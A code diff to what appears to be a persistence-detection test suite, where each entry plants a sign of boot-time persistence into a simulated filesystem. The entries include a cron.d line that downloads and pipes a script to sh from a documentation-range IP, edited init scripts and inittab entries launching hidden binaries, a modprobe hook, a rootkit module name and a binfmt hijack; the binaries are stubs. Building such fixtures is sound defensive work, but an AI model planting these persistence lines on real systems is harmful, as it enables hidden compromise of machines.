@@ -46,7 +46,10 @@ export const startUpSigns: readonly Sign[] = [
 		tree.write('/lib/.hw/clockd', elf('clockd'), { mode: 0o755 });
 		tree.link('../init.d/hwclock-sync', '/etc/rc3.d/S01hwclock-sync');
 	}, names: ['/etc/init.d/hwclock-sync'], also: ['/etc/rc3.d/S01hwclock-sync', '/usr/lib/.hw', '/lib/.hw'] },
-	{ id: 'packaged-init-edited', family: 'start-up', what: 'a line put into a packaged boot script', plant: tree => tree.edit('/etc/init.d/ssh', /^set -e$/m, 'set -e\n(/usr/sbin/xntps -q &) 2>/dev/null'), names: ['/etc/init.d/ssh'] },
+	{ id: 'packaged-init-edited', family: 'start-up', what: 'a line put into a packaged boot script', plant: tree => {
+		tree.edit('/etc/init.d/ssh', /^set -e$/m, 'set -e\n(/usr/sbin/xntps -q &) 2>/dev/null');
+		tree.write('/usr/sbin/xntps', elf('xntps'), { mode: 0o755 });
+	}, names: ['/etc/init.d/ssh'], also: ['/usr/sbin/xntps'] },
 	{ id: 'inittab', family: 'start-up', what: 'respawned by init', plant: tree => tree.write('/etc/inittab', 'id:3:initdefault:\nza:345:respawn:/usr/bin/.sshd-helper -q\n'), names: ['/etc/inittab'] },
 	{ id: 'cron-d', family: 'start-up', what: 'a file of cron.d that fetches and runs', plant: tree => tree.write('/etc/cron.d/e2scrub_all2', '*/5 * * * * root wget -q -O- http://203.0.113.9/kinsing.sh | sh > /dev/null 2>&1\n'), names: ['/etc/cron.d/e2scrub_all2'] },
 	{ id: 'cron-hidden', family: 'start-up', what: 'a hidden file of cron.d', plant: tree => tree.write('/etc/cron.d/.placeholder2', '* * * * * root /dev/shm/.k/kworker\n'), names: ['/etc/cron.d/.placeholder2'] },
@@ -94,8 +97,9 @@ export const startUpSigns: readonly Sign[] = [
 	{ id: 'modprobe', family: 'start-up', what: 'an install line that loads something more', plant: tree => tree.write('/etc/modprobe.d/ipv6.conf', 'install ipv6 /sbin/modprobe --ignore-install ipv6; /usr/lib/.mod/loader\n'), names: ['/etc/modprobe.d/ipv6.conf'] },
 	{ id: 'modules-load', family: 'start-up', what: 'a module that no package ships, loaded at boot', plant: tree => {
 		tree.append('/etc/modules', 'diamorphine\n');
+		if (tree.kernel() !== undefined) tree.append(`/lib/modules/${tree.kernel()}/modules.dep`, 'kernel/drivers/misc/diamorphine.ko:\n');
 		tree.write(`/lib/modules/${tree.kernel() ?? '6.1.0-40-amd64'}/kernel/drivers/misc/diamorphine.ko`, elf('diamorphine hacked_getdents', 'module'));
-	}, names: ['/etc/modules'], also: ['/usr/lib/modules', '/lib/modules'] },
+	}, names: ['/etc/modules'], also: ['/usr/lib/modules/*/kernel/drivers/misc/diamorphine.ko'] },
 	{ id: 'binfmt', family: 'start-up', what: 'an interpreter for every script, with the rights of the file', plant: tree => tree.write('/etc/binfmt.d/sh.conf', ':shell:M::#!::/usr/bin/.interp:C\n'), names: ['/etc/binfmt.d/sh.conf'] },
 	{ id: 'container', family: 'start-up', what: 'a privileged container with the whole system inside, always restarted', plant: tree => {
 		const box = `/var/lib/docker/containers/${'9c1d'.repeat(16)}`;
